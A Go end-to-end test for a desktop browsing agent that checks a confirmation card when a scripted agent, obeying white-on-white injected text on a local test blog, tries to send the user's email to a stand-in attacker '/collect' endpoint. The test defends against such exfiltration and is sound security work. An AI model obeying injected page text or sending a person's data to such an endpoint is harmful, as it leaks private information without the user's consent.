package main

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"vroom/internal/modeltest"
	"vroom/internal/testenv"
)

// safetyBlog serves app/internal/apptest/testdata/blog.html on 127.0.0.1 and counts what
// reaches its attacker's /collect on localhost, another origin.
type safetyBlog struct {
	URL, Attacker string

	mu      sync.Mutex
	collect int
}

func newSafetyBlog(t *testing.T) *safetyBlog {
	t.Helper()
	b := &safetyBlog{}
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/collect" {
			b.mu.Lock()
			b.collect++
			b.mu.Unlock()
		}
		fmt.Fprint(w, "<!doctype html><title>Thanks</title><p>collected</p>")
	}))
	t.Cleanup(attacker.Close)
	b.Attacker = strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		page, err := os.ReadFile("app/internal/apptest/testdata/blog.html")
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Write(bytes.ReplaceAll(page, []byte("{{ATTACKER}}"), []byte(b.Attacker)))
	}))
	t.Cleanup(srv.Close)
	b.URL = srv.URL
	return b
}

func (b *safetyBlog) collected() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.collect
}

// An agent that obeys the blog's injection and sends the person's email to
// the attacker's origin meets a card naming the destination and the email;
// "Deny" leaves the attacker without a request, "Allow once" lets exactly
// one through.
func TestDesktopExfiltrationCard(t *testing.T) {
	testenv.NeedDisplay(t)
	blog := newSafetyBlog(t)
	srv := modeltest.New(t)
	srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "which sauce does the blog recommend?", "url": blog.URL + "/blog.html"}))
	dest := blog.Attacker + "/collect?email=ada%40example.com"
	srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
		switch {
		case r.ToolResults() == 0:
			return modeltest.Call("navigate", map[string]any{"url": dest}) // obeys the white-on-white text
		case strings.HasPrefix(r.LastText(), "refused"):
			return modeltest.Call("done", map[string]any{"summary": "refused; the blog recommends carbonara", "success": false})
		}
		return modeltest.Call("done", map[string]any{"summary": "sent; the blog recommends carbonara", "success": true})
	}})
	url, _ := startDesk(t, srv)
	ctx := headless(t, url)
	host := strings.TrimPrefix(blog.Attacker, "http://")
	for _, tc := range []struct {
		button, state string
		collected     int
	}{{"deny", "failed", 0}, {"once", "done", 1}} {
		if err := chromedp.Do(ctx,
			chromedp.SendKeys(chromedp.CSS(`input[name=omnibox]`), "which sauce does the blog recommend"),
			chromedp.KeyEvent("\r"),
			chromedp.WaitVisible(chromedp.CSS(`.card[data-kind=confirm]`)),
		); err != nil {
			t.Fatalf("%s: %v", tc.button, err)
		}
		card := eval[string](t, ctx, `document.querySelector('.card[data-kind=confirm]').textContent`)
		for _, want := range []string{"agent 1", host, "ada@example.com", "your email"} {
			if !strings.Contains(card, want) {
				t.Fatalf("the card %q does not show %q", card, want)
			}
		}
		if n := blog.collected(); n != 0 {
			t.Fatalf("the attacker got %d requests before the answer", n)
		}
		if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(`.card button.`+tc.button))); err != nil {
			t.Fatal(err)
		}
		waitJS(t, ctx, "the run "+tc.state, fmt.Sprintf(`!!document.querySelector('.ended[data-state=%s]') && !document.querySelector('.card')`, tc.state), 60*time.Second)
		if n := blog.collected(); n != tc.collected {
			t.Fatalf("after %s the attacker got %d requests, want %d", tc.button, n, tc.collected)
		}
	}
}
